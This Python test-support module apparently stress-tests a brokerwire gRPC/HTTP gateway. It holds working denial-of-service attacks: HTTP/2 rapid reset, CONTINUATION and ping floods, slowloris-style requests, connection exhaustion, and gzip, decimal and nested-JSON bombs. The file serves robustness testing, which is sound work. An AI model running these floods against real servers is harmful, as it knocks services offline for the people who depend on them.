"""Peers that mean no good, each a loop until its process is ended: `python -m tests.support.abuse KIND GRPC HTTP`.

They speak HTTP/2 by hand, because every library keeps the rules. A loop tells its progress, a line for each round.
"""

from __future__ import annotations

import contextlib
import gzip
import os
import random
import socket
import sys
import time
from collections.abc import Callable, Iterator

import h2.config
import h2.connection
import h2.events
import h2.settings
from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

Address = tuple[str, int]
Attack = Callable[[Address, Address], Iterator[None]]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SUBMIT = "/brokerwire.v1.OrderService/SubmitOrder"
EVENTS = "/brokerwire.v1.EventService/StreamEvents"
MEGABYTE = 1 << 20
PATIENCE = 1.0
"""Seconds that a peer waits for what may never come."""
SEED = random.Random(7)


# --- by hand ---------------------------------------------------------------------------------------------------------


class Wire:
    """One connection to the gRPC door that keeps no rules but those it is told to."""

    def __init__(self, address: Address, settings: dict[int, int] | None = None) -> None:
        self.socket = socket.create_connection(address, timeout=PATIENCE)
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False)
        )
        if settings:
            self.h2.local_settings.update(settings)
        self.h2.initiate_connection()
        self.flush()
        self.next_stream = 1

    def flush(self) -> None:
        self.socket.sendall(self.h2.data_to_send())

    def send(self, *frames: Frame) -> None:
        self.socket.sendall(b"".join(frame.serialize() for frame in frames))

    def headers(self, path: str, *more: tuple[str, str]) -> bytes:
        fields = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *more,
        ]
        return bytes(self.h2.encoder.encode(fields))

    def stream(self) -> int:
        number, self.next_stream = self.next_stream, self.next_stream + 2
        return number

    def drain(self) -> None:
        """Throw away what came, so that the peer's writes do not stop it."""
        self.socket.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while self.socket.recv(1 << 16):
                pass
        self.socket.settimeout(PATIENCE)

    def close(self) -> None:
        self.socket.close()


def opening(stream: int, block: bytes, *flags: str) -> HeadersFrame:
    frame = HeadersFrame(stream, block)
    for flag in flags:
        frame.flags.add(flag)
    return frame


def grpc_call(address: Address, data: bytes, *, compressed: bool = False) -> None:
    """Make one unary call with these bytes as its message, and wait for whatever comes of it."""
    wire = Wire(address)
    try:
        more = (("grpc-encoding", "gzip"),) if compressed else ()
        number = wire.stream()
        wire.send(opening(number, wire.headers(SUBMIT, *more), "END_HEADERS"))
        message = bytes([compressed]) + len(data).to_bytes(4, "big") + data
        sent = 0
        window = 65_535
        while sent < len(message):
            size = min(window, 16_384, len(message) - sent)
            if size <= 0:
                window += _window(wire)
                continue
            frame = message[sent : sent + size]
            wire.socket.sendall(_data(number, frame, last=sent + size == len(message)))
            sent, window = sent + size, window - size
        wire.socket.recv(1 << 16)
    finally:
        wire.close()


def _data(stream: int, payload: bytes, *, last: bool) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([0, int(last)]) + stream.to_bytes(4, "big") + payload


def _window(wire: Wire) -> int:
    """Wait for room to send; nothing that comes is looked at more closely."""
    if not wire.socket.recv(1 << 16):
        raise ConnectionError("hung up")
    return 65_535


def http_post(address: Address, path: str, body: bytes, *, headers: str = "", length: int | None = None) -> bytes:
    with socket.create_connection(address, timeout=PATIENCE) as connection:
        size = len(body) if length is None else length
        head = (
            f"POST {path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
            f"content-length: {size}\r\n{headers}\r\n"
        )
        connection.sendall(head.encode())
        with contextlib.suppress(OSError):  # it may hang up in the middle
            connection.sendall(body)
        return connection.recv(1 << 16)


# --- the attacks -----------------------------------------------------------------------------------------------------


def garbage(grpc: Address, http: Address) -> Iterator[None]:
    """Bytes without meaning, with and without a beginning that has one."""
    while True:
        for address in (grpc, http):
            for beginning in (b"", PREFACE, b"POST / HTTP/1.1\r\n"):
                with socket.create_connection(address, timeout=PATIENCE) as connection:
                    connection.sendall(beginning + SEED.randbytes(4_096))
        yield


def oversize(grpc: Address, http: Address) -> Iterator[None]:
    """Messages beyond the limit, and promises of far larger ones."""
    large = bytes(9 * MEGABYTE)
    while True:
        grpc_call(grpc, large)
        http_post(http, SUBMIT, large)
        http_post(http, SUBMIT, b"{", length=1 << 40)
        yield


def decimal_bombs(grpc: Address, http: Address) -> Iterator[None]:
    """Numbers that take minutes to compute or megabytes to write."""
    bombs = ["1E+3000000", "9" * 1_000_000, "0." + "1" * 1_000_000, "-1e-999999999", "\uff11" * 1000]
    while True:
        for bomb in bombs:
            order = f'{{"order":{{"accountId":"paper","clientOrderId":"b","quantity":{{"value":"{bomb}"}}}}}}'
            answer = http_post(http, SUBMIT, order.encode())
            assert b" 400 " in answer, answer[:200]
            number = bomb.encode()
            amount = b"\x0a" + _varint(len(number)) + number
            request = b"\x3a" + _varint(len(amount)) + amount
            grpc_call(grpc, b"\x0a" + _varint(len(request)) + request)
        yield


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


def rapid_reset(grpc: Address, http: Address) -> Iterator[None]:
    """Thousands of calls that are opened and canceled in the same breath."""
    while True:
        wire = Wire(grpc)
        try:
            for _ in range(20):
                frames: list[Frame] = []
                for _ in range(100):
                    number = wire.stream()
                    frames += opening(number, wire.headers(SUBMIT), "END_HEADERS"), RstStreamFrame(number, 8)
                wire.send(*frames)
                wire.drain()
                yield
        finally:
            wire.close()


def header_flood(grpc: Address, http: Address) -> Iterator[None]:
    """Heads that never end."""
    while True:
        wire = Wire(grpc)
        try:
            wire.send(opening(wire.stream(), wire.headers(SUBMIT)))
            for number in range(200):
                block = wire.h2.encoder.encode([(f"x-{number}-{n}", "v" * 400) for n in range(20)])
                wire.send(ContinuationFrame(1, block))
        except OSError:
            pass
        finally:
            wire.close()
        with contextlib.suppress(OSError), socket.create_connection(http, timeout=PATIENCE) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\nhost: localhost\r\n")
            for number in range(500):
                connection.sendall(f"x-{number}: {'v' * 1000}\r\n".encode())
        yield


def control_flood(grpc: Address, http: Address) -> Iterator[None]:
    """Pings and settings, each of which wants an answer."""
    while True:
        wire = Wire(grpc)
        try:
            for _ in range(20):
                pings = [PingFrame(0, os.urandom(8)) for _ in range(200)]
                settings = [SettingsFrame(0, settings={3: 100 + n}) for n in range(50)]
                wire.send(*pings, *settings)
                wire.drain()
            yield
        finally:
            wire.close()


def unread_streams(grpc: Address, http: Address) -> Iterator[None]:
    """Streams of events whose window never opens."""
    wires: list[Wire] = []
    while True:
        if len(wires) < 20:
            wire = Wire(grpc, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
            for _ in range(10):
                wire.send(opening(number := wire.stream(), wire.headers(EVENTS), "END_HEADERS"))
                wire.socket.sendall(_data(number, bytes(5), last=True))
            wires.append(wire)
        else:
            time.sleep(0.05)
        yield


def gzip_bombs(grpc: Address, http: Address) -> Iterator[None]:
    """A little that unpacks to a lot."""
    bomb = gzip.compress(bytes(200 * MEGABYTE))
    while True:
        grpc_call(grpc, bomb, compressed=True)
        http_post(http, SUBMIT, bomb, headers="content-encoding: gzip\r\n")
        yield


def nested_json(grpc: Address, http: Address) -> Iterator[None]:
    """Brackets without end."""
    deep = 200_000
    bodies = [b'{"order":' * deep, b"[" * deep, b'{"order":{"legs":' + b"[" * deep + b"]" * deep + b"}}"]
    while True:
        for body in bodies:
            answer = http_post(http, SUBMIT, body)
            assert b" 400 " in answer, answer[:200]
        yield


def connections(grpc: Address, http: Address) -> Iterator[None]:
    """Two thousand connections that say nothing, or only hello."""
    held: list[socket.socket] = []
    while True:
        if len(held) < 2_000:
            for _ in range(50):
                opened = socket.create_connection(grpc if len(held) % 2 else http, timeout=PATIENCE)
                if len(held) % 2:
                    opened.sendall(PREFACE + SettingsFrame(0).serialize())
                held.append(opened)
        else:
            time.sleep(0.05)
        yield


def slow_heads(grpc: Address, http: Address) -> Iterator[None]:
    """Requests that come a byte at a time."""
    held = [socket.create_connection(http, timeout=PATIENCE) for _ in range(200)]
    for text in ("POST / HTTP/1.1\r\nhost: localhost\r\nx: ", "v" * 10_000):
        for character in text:
            for connection in held:
                with contextlib.suppress(OSError):
                    connection.sendall(character.encode())
            yield
            time.sleep(0.02)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        garbage,
        oversize,
        decimal_bombs,
        rapid_reset,
        header_flood,
        control_flood,
        unread_streams,
        gzip_bombs,
        nested_json,
        connections,
        slow_heads,
    )
}


def main(kind: str, *addresses: str) -> None:
    """Attack for ever. What a real peer computes on a machine of its own is not to slow the gateway here: be nice."""
    os.nice(19)
    grpc, http = ((host, int(port)) for host, _, port in (address.rpartition(":") for address in addresses))
    while True:
        # A peer that is hung up on calls again.
        with contextlib.suppress(OSError):
            for _ in ATTACKS[kind](grpc, http):
                _tell()
        _tell()


def _tell() -> None:
    sys.stdout.write("round\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main(*sys.argv[1:])
